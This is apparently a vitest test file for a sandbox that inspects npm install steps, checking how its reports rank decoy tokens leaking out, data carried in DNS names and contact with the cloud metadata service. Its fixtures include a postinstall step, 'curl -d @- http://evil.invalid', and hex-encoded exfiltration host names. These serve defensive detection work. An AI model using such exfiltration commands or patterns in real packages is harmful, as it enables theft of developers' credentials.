import { describe, expect, it } from 'vitest';
import type { EgressLeak } from '../../../../src/egress/content/leak.js';
import type { EgressRequest } from '../../../../src/egress/content/request.js';
import type { EgressRecord } from '../../../../src/egress/record.js';
import { buildReport } from '../../../../src/report/build.js';
import { Contacts } from '../../../../src/report/evidence/egress/contacts.js';
import { reportSchema } from '../../../../src/report/report.js';
import { alertAt, evidence, PROJECT, pkg, REFUSED, scriptsOf, treeOf } from '../../evidence.js';
import { GET } from '../../requests.js';

const leak = {
  secret: 'npm token',
  host: 'evil.invalid',
  port: null,
  via: 'dns',
  where: 'name',
  encoding: 'hex',
  count: 3,
  first: 1_795_226_323_000,
  last: 1_795_226_324_000,
  asked: '6e706d5f.evil.invalid',
  clientPorts: [],
} as const;
const dataNames = {
  parent: 'evil.invalid',
  via: 'dns',
  example: '6e706d5f.evil.invalid',
  names: 30,
  payload: 900,
  severity: 'certain',
  first: 1_795_226_323_000,
  last: 1_795_226_324_000,
  clientPorts: [],
} as const;
const packages = [
  pkg('.', ['a', 'b']),
  pkg('node_modules/a', [], ['postinstall']),
  pkg('node_modules/b', [], ['postinstall']),
];
const tree = treeOf([
  ...scriptsOf('a', 10),
  ...scriptsOf('b', 11),
  [2, 20, 10, `${PROJECT}/node_modules/a`, 'node setup.js'],
  [2, 30, 11, `${PROJECT}/node_modules/b`, 'curl -d @- http://evil.invalid'],
]);

describe('what the gateway saw', () => {
  it('a decoy on its way out is critical, and names decoy, host and package', () => {
    const contacts = new Contacts();
    contacts.add(
      alertAt(3, 'Packwarden name lookup', {
        'proc.pid': '20',
        'evt.arg.data': 'x............6e706d5f.evil.invalid....',
      }),
    );
    const report = buildReport(evidence({ packages, tree, contacts, leaks: [leak] }));
    expect(report.findings).toEqual([
      expect.objectContaining({ rule: 'Decoy left the sandbox', priority: 'CRITICAL', decoy: 'npm token', count: 3 }),
    ]);
    expect(report.findings[0]?.package?.name).toBe('a');
    expect(report.findings[0]?.alert.output).toContain('decoy npm token left the sandbox towards host evil.invalid');
    expect(reportSchema.parse(report)).toEqual(report);
  });

  describe('a token that is sent to its issuer', () => {
    const shown = {
      ...leak,
      secret: 'CI variable GITHUB_TOKEN',
      host: 'api.github.com',
      asked: 'api.github.com',
      port: 443,
      via: 'proxy',
      where: 'header',
      encoding: 'plain',
      count: 1,
      clientPorts: [40_000],
    } as const;
    const request = { ...GET, path: '/repos/maker/a/releases/latest', clientPorts: [40_000] };
    const judged = (left: Partial<EgressLeak>, asked: Partial<EgressRequest>, more: Partial<EgressRecord> = {}) => {
      const contacts = new Contacts();
      contacts.add(
        alertAt(3, 'Packwarden proxy connection', { 'proc.pid': '20', 'fd.name': '172.18.0.2:40000->172.18.0.1:3128' }),
      );
      const host = left.host ?? shown.host;
      const row = { ...REFUSED, host, via: 'proxy', port: 443, clientPorts: [40_000] } as const;
      const egress = [{ ...row, requests: [{ ...request, ...asked }], ...more }];
      const sites = ['https://github.com/maker/a/'];
      const made = packages.map((one) => (one.name === 'a' ? { ...one, sites } : one));
      const report = buildReport(evidence({ packages: made, tree, contacts, egress, leaks: [{ ...shown, ...left }] }));
      return [...report.findings, ...report.observations].find(({ rule }) => rule === 'Decoy left the sandbox');
    };

    it('with a question for the own releases is an observation (supabase 3)', () => {
      const one = judged({}, {});
      expect(one).toMatchObject({ priority: 'NOTICE', decoy: 'CI variable GITHUB_TOKEN', weighed: true });
      expect(one?.package?.name).toBe('a');
    });

    it.each<[string, Partial<EgressLeak>, Partial<EgressRequest>, Partial<EgressRecord>]>([
      ["of another's releases", {}, { path: '/repos/evil/b/releases/latest' }, {}],
      ['who its owner is', {}, { path: '/user' }, {}],
      ['with a repository that is made', {}, { method: 'POST', path: '/user/repos', bodyBytes: 9 }, {}],
      ['with something sent to the own repository', {}, { method: 'PUT', path: '/repos/maker/a/contents/x' }, {}],
      ['of another service', { secret: 'npm token' }, {}, {}],
      ['elsewhere', { host: 'maker.example', asked: 'maker.example' }, {}, {}],
      ['encoded', { encoding: 'base64' }, {}, {}],
      ['in the path', { where: 'url' }, {}, {}],
      ['in a body', { where: 'body' }, {}, {}],
      ['by more connections than are known', { clientPorts: [40_000, 40_001], count: 2 }, {}, {}],
      ['more often than there were connections', { count: 2 }, {}, {}],
      ['beside requests that are not known', {}, {}, { requestsLeft: 1 }],
      ['beside what could not be read', {}, {}, { unread: [{ reason: 'not-http', serverName: null, count: 1 }] }],
    ])('%s stays critical', (_title, left, asked, more) => {
      expect(judged(left, asked, more)).toMatchObject({ priority: 'CRITICAL' });
    });
  });

  it.each([
    ['the address that we sent it to (global-agent of shellcheck 4)', '127.0.0.1', 1, 'call', 'NOTICE'],
    ['another port', '127.0.0.1', 2, 'call', 'CRITICAL'],
    ['elsewhere', 'evil.invalid', 1, 'call', 'CRITICAL'],
    ['that address by a script', '127.0.0.1', 1, 'scripts:a', 'CRITICAL'],
  ] as const)('a decoy of ours that a proxy agent passes on to %s', (_title, host, port, step, priority) => {
    const contacts = new Contacts();
    contacts.add(
      alertAt(3, 'Packwarden proxy connection', { 'proc.pid': '20', 'fd.name': '172.18.0.2:40000->172.18.0.1:3128' }),
    );
    const called = treeOf([
      [0.8, 10, 9, PROJECT, `confine step=${step} node /opt/ci/import-all.mjs ${PROJECT}`],
      [1, 10, 9, PROJECT, `node /opt/ci/import-all.mjs ${PROJECT}`],
      [2, 20, 10, PROJECT, `node /opt/ci/node/call.cjs a ${PROJECT} 300`],
    ]);
    const sent = { ...leak, host, asked: host, port, via: 'proxy', where: 'header', clientPorts: [40_000] } as const;
    const report = buildReport(evidence({ packages, tree: called, contacts, leaks: [sent] }));
    const one = [...report.findings, ...report.observations].find(({ rule }) => rule === 'Decoy left the sandbox');
    expect(one?.priority).toBe(priority);
  });

  it('is a finding although the policy let it through', () => {
    const row = { ...REFUSED, allowed: true, via: 'proxy' } as const;
    const report = buildReport(evidence({ egress: [row], leaks: [{ ...leak, via: 'proxy', where: 'body' }] }));
    expect(report.verdict).toBe('findings');
  });

  it.each([
    ['certain', 'CRITICAL'],
    ['likely', 'WARNING'],
  ] as const)('names that carry data, %s: %s', (severity, priority) => {
    const report = buildReport(evidence({ dataNames: [{ ...dataNames, severity }] }));
    expect(report.findings).toEqual([
      expect.objectContaining({ rule: 'Data in host names', priority, count: 30, package: null }),
    ]);
    expect(report.findings[0]?.alert.output_fields).toMatchObject({
      'egress.target': 'evil.invalid',
      'egress.names': '30',
      'egress.example': '6e706d5f.evil.invalid',
    });
  });

  it('the metadata address by the proxy is as bad as a direct contact', () => {
    const report = buildReport(evidence({ egress: [{ ...REFUSED, host: '169.254.169.254', via: 'proxy', port: 80 }] }));
    expect(report.findings).toEqual([
      expect.objectContaining({ rule: 'Contact with the cloud metadata service', priority: 'CRITICAL' }),
    ]);
  });

  it('one host asked for by two packages is two findings', () => {
    const contacts = new Contacts();
    for (const [pid, port] of [
      ['20', 40_000],
      ['30', 40_001],
    ]) {
      contacts.add(
        alertAt(3, 'Packwarden proxy connection', {
          'proc.pid': `${pid}`,
          'fd.name': `172.18.0.2:${port}->172.18.0.1:3128`,
        }),
      );
    }
    const row = { ...REFUSED, via: 'proxy', port: 80, clientPorts: [40_000, 40_001] } as const;
    const report = buildReport(evidence({ packages, tree, contacts, egress: [row] }));
    expect(report.findings.map(({ package: by, count }) => [by?.name, count])).toEqual([
      ['a', 1],
      ['b', 1],
    ]);
  });
});

describe('a tool in the steps of two packages (node-pre-gyp of bcrypt 5 and canvas 2)', () => {
  const tool = `${PROJECT}/node_modules/tool`;
  const made = [
    ...packages.map((one) => (one.name === '' ? one : { ...one, sites: [`https://github.com/maker/${one.name}/`] })),
    pkg('node_modules/tool', []),
  ];
  const steps = treeOf([
    ...scriptsOf('a', 10),
    ...scriptsOf('b', 11),
    [2, 20, 10, `${PROJECT}/node_modules/a`, `node ${tool}/install.js`],
    [2, 30, 11, `${PROJECT}/node_modules/b`, `node ${tool}/install.js`],
  ]);
  const judged = (...paths: readonly (readonly [port: number, path: string])[]) => {
    const contacts = new Contacts();
    for (const [pid, port] of [
      ['20', 40_000],
      ['30', 40_001],
    ]) {
      contacts.add(
        alertAt(3, 'Packwarden proxy connection', {
          'proc.pid': `${pid}`,
          'fd.name': `172.18.0.2:${port}->172.18.0.1:3128`,
        }),
      );
    }
    const requests = paths.map(([port, path]) => ({ ...GET, path, clientPorts: [port] }));
    const row = { ...REFUSED, host: 'github.com', via: 'proxy', port: 443, clientPorts: [40_000, 40_001] } as const;
    return buildReport(evidence({ packages: made, tree: steps, contacts, egress: [{ ...row, requests }] }));
  };

  it('asks the site of each, and accuses nobody', () => {
    const report = judged([40_000, '/maker/a/releases/x.gz'], [40_001, '/maker/b/releases/x.gz']);
    expect(report.findings).toEqual([]);
    expect(report.observations.map(({ package: by, ranBy, known }) => [by?.name, ranBy?.name, known])).toEqual([
      ['tool', 'a', expect.stringContaining('its own site')],
      ['tool', 'b', expect.stringContaining('its own site')],
    ]);
  });

  it("is a finding where it asks for the other's", () => {
    const report = judged([40_000, '/maker/a/releases/x.gz'], [40_001, '/maker/a/releases/x.gz']);
    expect(report.findings.map(({ ranBy }) => ranBy?.name)).toEqual(['b']);
  });
});
